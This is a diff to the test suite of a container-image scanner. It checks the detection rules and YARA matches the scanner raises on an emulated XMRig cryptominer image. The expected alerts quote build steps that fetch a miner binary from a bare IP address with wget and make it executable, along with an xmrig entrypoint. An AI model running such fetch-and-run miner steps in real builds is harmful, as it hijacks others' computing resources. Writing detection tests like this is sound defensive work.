@@ -131,6 +131,16 @@ class Run:
         return sorted(field(a, "kibana.alert.rule.name") for a in self.alerts)
 
 
+def summary_row(run, image):
+    """The summary table's row of `image`: platform, layers, alerts, worst."""
+    for line in run.stderr.splitlines():
+        cells = line.split()
+        if len(cells) == 6 and cells[0] == image:
+            return {"platform": cells[1], "layers": cells[2], "alerts": cells[4],
+                    "worst": cells[5]}
+    raise AssertionError(f"no summary row for {image} in:\n{run.stderr[-3000:]}")
+
+
 def read_ndjson(path):
     if not os.path.exists(path):
         return []
@@ -1160,14 +1170,18 @@ class Usage(ScanCase):
     def test_summary_table(self):
         path = self.path("app.tar")
         write_docker_save(path, [rich_image()], self.ws)
-        run = self.scan(path)
+        clean = self.path("clean.tar")
+        write_docker_save(clean, [small_image()], self.ws)
+        run = self.scan(path, clean)
         self.assert_exit(run, 0)
         header = [line for line in run.stderr.splitlines()
                   if re.match(r"\s*IMAGE\s+PLATFORM\s+LAYERS\s+FILES\s+ALERTS\s+WORST", line)]
         self.assertEqual(len(header), 1, run.stderr)
-        rows = [line for line in run.stderr.splitlines() if "linux/amd64" in line]
-        self.assertTrue(rows, run.stderr)
-        self.assertRegex(rows[0], r"\b3\b")  # layers
+        # The setuid test rule (severity low) fires once on the rich image.
+        self.assertEqual(summary_row(run, "example/app:1.0"),
+                         {"platform": "linux/amd64", "layers": "3", "alerts": "1", "worst": "low"})
+        self.assertEqual(summary_row(run, "example/small:1"),
+                         {"platform": "linux/amd64", "layers": "1", "alerts": "0", "worst": "-"})
 
     def test_alerts_exit_codes_and_sarif(self):
         path = self.path("app.tar")
@@ -1238,9 +1252,25 @@ class Usage(ScanCase):
 # ---------------------------------------------------------------------------
 # the bundled scan pack (rules/t1204_003/scan)
 
-# Rules of the pack expected to fire on emulation 3's image; each must be a
-# `name` of a rule under rules/t1204_003/scan/.
-EMULATION_ALERTS = set()
+# The pack's alerts on emulation 3's image, as (rule name, event.action,
+# file.path or process.command_line); each name must be the `name` of a rule
+# under rules/t1204_003/scan/.
+CONFIG_RULE = "Container Image Configured to Run a Cryptocurrency Miner"
+FILE_RULE = "Cryptocurrency Miner File in a Container Image"
+DELETED_RULE = "Cryptocurrency Miner File Deleted or Replaced in a Container Image Layer"
+FETCH_RULE = "Image Build Step Fetched Code from a Raw IP Address or a Paste Site"
+RELEASE = "xmrig-6.21.0-linux-static-x64.tar.gz"
+EMULATION_ALERTS = sorted([
+    # Entrypoint xmrig, POOL_URL=stratum+tcp://
+    (CONFIG_RULE, "image-config", "/opt/xmr/xmrig -c /opt/xmr/config.json"),
+    # the build fetched the miner from a bare address, twice
+    (FETCH_RULE, "image-history", f"ADD http://203.0.113.7/{RELEASE} /tmp/ # buildkit"),
+    (FETCH_RULE, "image-history", "RUN /bin/sh -c wget -q http://203.0.113.7/xmrig -O "
+     "/opt/xmr/xmrig && chmod +x /opt/xmr/xmrig # buildkit"),
+    (FILE_RULE, "image-file", "/opt/xmr/xmrig"),          # its name; YARA XMRig_Miner_Binary
+    (FILE_RULE, "image-file", "/opt/xmr/config.json"),    # YARA XMRig_Config_File
+    (DELETED_RULE, "image-file-deleted", f"/tmp/{RELEASE}"),  # the release, then removed
+])
 
 
 class Pack(ScanCase):
@@ -1282,6 +1312,8 @@ class Pack(ScanCase):
         self.assertEqual(sorted(present), ["/etc/group", "/etc/hostname", "/etc/os-release",
                                            "/etc/passwd", "/opt/xmr/config.json",
                                            "/opt/xmr/fetch-config.sh", "/opt/xmr/xmrig"])
+        self.assertEqual([field(e, "file.path") for e in run.of("image-file-deleted")],
+                         [f"/tmp/{RELEASE}"])
         self.assertEqual(field(present["/opt/xmr/xmrig"], "file.elf.architecture"), "x86-64")
         config = run.of("image-config")[0]
         self.assertEqual(field(config, "process.name"), "xmrig")
@@ -1293,9 +1325,18 @@ class Pack(ScanCase):
         self.assertTrue(run.alerts, "the pack raised nothing on the miner image")
         names = set(run.rule_names())
         self.assertLessEqual(names, set(self.names), "alerts of rules outside the scan pack")
-        self.assertLessEqual(EMULATION_ALERTS, names)
-        self.assertTrue(as_list(field(present["/opt/xmr/xmrig"], "yara.rule")),
-                        "the bundled YARA rules do not match the fake XMRig")
+        self.assertLessEqual({alert[0] for alert in EMULATION_ALERTS}, set(self.names),
+                             "EMULATION_ALERTS names rules the pack no longer has")
+        self.assertEqual(sorted((field(a, "kibana.alert.rule.name"), field(a, "event.action"),
+                                 field(a, "file.path") or field(a, "process.command_line"))
+                                for a in run.alerts), EMULATION_ALERTS)
+        self.assertIn("XMRig_Miner_Binary",
+                      as_list(field(present["/opt/xmr/xmrig"], "yara.rule")))
+        self.assertIn("XMRig_Config_File",
+                      as_list(field(present["/opt/xmr/config.json"], "yara.rule")))
+        self.assertEqual(summary_row(run, "docker.io/cryptominer/monero-xmr:latest"),
+                         {"platform": "linux/amd64", "layers": "5",
+                          "alerts": str(len(EMULATION_ALERTS)), "worst": "high"})
         failing = self.scan(path, rules="pack", yara=True, args=["--fail-on-alert"])
         self.assert_exit(failing, 3)
 
